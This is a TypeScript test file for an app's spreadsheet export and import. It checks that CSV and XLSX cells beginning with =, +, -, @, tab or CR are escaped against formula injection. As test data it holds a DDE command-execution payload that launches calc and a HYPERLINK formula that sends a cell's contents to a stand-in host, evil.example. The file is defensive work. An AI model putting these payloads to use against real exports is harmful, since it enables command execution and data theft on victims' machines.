import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { loadAndCheckContent } from '../../../src/content/index.js';
import { exportQuestions, importQuestions } from '../../../src/content/io/questions.js';
import { fromSpreadsheetText, spreadsheetText } from '../../../src/domain/index.js';
import { toCsv, toXlsx } from '../../../src/http/api/index.js';
import { fixtureTree, treePaths } from '../content/fixture-tree.js';

const ATTACK = "=cmd|' /C calc'!A0";

describe('spreadsheet cells are never formulas', () => {
  it('text starting with = + - @ tab or CR gets a leading apostrophe; anything else is left alone', () => {
    for (const t of [ATTACK, '+1 555', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(spreadsheetText(t), JSON.stringify(t)).toBe(`'${t}`);
    for (const t of ['Nguyễn Văn An', '', "'quoted", 'a=b', ' =x']) expect(spreadsheetText(t), JSON.stringify(t)).toBe(t);
  });

  it('every text reads back as it was written, including texts that start with apostrophes', () => {
    for (const t of [ATTACK, "'=x", "''-1", "'plain", 'plain', '-', '@']) expect(fromSpreadsheetText(spreadsheetText(t)), t).toBe(t);
  });

  it('the admin exports (CSV and XLSX) neutralise a display name any member can choose', async () => {
    const table = { name: 'participants', headers: ['displayName', 'answered'], rows: [[ATTACK, -3]] as const };
    const csv = toCsv({ ...table, rows: [[...table.rows[0]]] });
    expect(csv).toContain(`\n'=cmd|' /C calc'!A0,-3`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await toXlsx({ ...table, rows: [[...table.rows[0]]] })) as never);
    const row = wb.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe(`'${ATTACK}`);
    expect(row.getCell(1).formula).toBeUndefined();
    expect(row.getCell(2).value).toBe(-3);
  });

  for (const ext of ['csv', 'xlsx'] as const) {
    it(`the CLI question export (${ext}) writes =HYPERLINK(...) as text, and the import reads it back unchanged`, async () => {
      const dir = fixtureTree();
      const paths = treePaths(dir);
      const file = path.join(paths.contentDir, 'questions', 'alpha.yaml');
      const link = '=HYPERLINK("https://evil.example/?q="&A1;"Xem nguồn")';
      fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('"Đáp án đúng là QĐ 505/QĐ-TTg theo tài liệu nguồn."', JSON.stringify(link)));
      const before = loadAndCheckContent(paths).loaded.bundle.questions;
      expect(before.find((q) => q.id === 'alpha-001')?.explanation).toBe(link);

      const out = path.join(dir, `export.${ext}`);
      await exportQuestions(out, paths);
      if (ext === 'csv') {
        const text = fs.readFileSync(out, 'utf8');
        expect(text).toContain(`"'=HYPERLINK(`);
        expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
      } else {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.readFile(out);
        const cells = wb.worksheets[0]!.getSheetValues().flat() as unknown[];
        expect(cells).toContain(`'${link}`);
        expect(cells).not.toContain(link);
      }
      expect(await importQuestions(out, paths)).toMatchObject({ ok: true, updated: 10 });
      expect(loadAndCheckContent(paths).loaded.bundle.questions).toEqual(before);
    });
  }
});
